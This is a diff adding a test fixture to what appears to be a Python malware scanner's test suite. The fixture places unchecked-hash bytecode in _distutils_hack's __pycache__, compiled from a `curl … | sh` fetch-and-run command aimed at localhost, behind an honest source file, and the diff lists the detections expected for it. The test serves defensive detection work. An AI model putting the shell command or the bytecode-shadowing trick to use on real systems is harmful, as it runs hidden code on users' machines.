@@ -977,6 +977,24 @@ cases["customize-pyc-poisoned"] = (
      # bytecode names `os` beside the decoding: its names cannot say which one the decoded data reaches
      e("flow-decoded-process", "high", CACHED311, 1)],
 )
+# cached bytecode of the module a known-good hook imports (setuptools' distutils-precedence.pth
+# imports _distutils_hack), compiled from a downloader piped to a shell: the hook and the
+# source are honest, the bytecode CPython runs is not
+fetch_shell = guarded("""\
+    os.system('curl -s http://127.0.0.1:9/x | sh')
+    """)
+DISTUTILS_HACK = SP311 + "/_distutils_hack/__pycache__/__init__.cpython-311.pyc"
+SHAPE_CASES["shape-pyc-shadowed-hook-module"] = (
+    "setuptools' distutils-precedence.pth (known good) imports _distutils_hack, whose honest __init__.py has "
+    "unchecked-hash bytecode in __pycache__ compiled from `os.system('curl … | sh')`: CPython runs the bytecode.",
+    [f("venv311/pyvenv.cfg", "home = /usr/bin\nversion = 3.11.7\n"),
+     f(SP311 + "/distutils-precedence.pth",
+       "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
+       "enabled and __import__('_distutils_hack').add_shim(); \n"),
+     f(SP311 + "/_distutils_hack/__init__.py", "def add_shim():\n    pass\n"),
+     f(DISTUTILS_HACK, b64data=b64(unchecked_pyc("distutils_hack", fetch_shell)))],
+    [],
+)
 # the poisoned bytecode's names spelt in the honest source's docstring: names count only as
 # the source's identifiers, so the bytecode is still not the source's
 docstring_customize = (
@@ -1824,6 +1842,10 @@ SHAPE_CASES["shape-codepage-cloak"] = (
     [],
 )
 SHAPE_EXPECT = {
+    "shape-pyc-shadowed-hook-module": [
+        e("PTH001", "info", SP311 + "/distutils-precedence.pth", 1),
+        e("process-fetch-run", "high", DISTUTILS_HACK, 1),
+    ],
     "shape-loop-carried-dropper": [
         e("PTH001", "medium", SP + "/sections.pth", 1),
         e("IMP001", "low", SP + "/_sections_boot.py", 3),
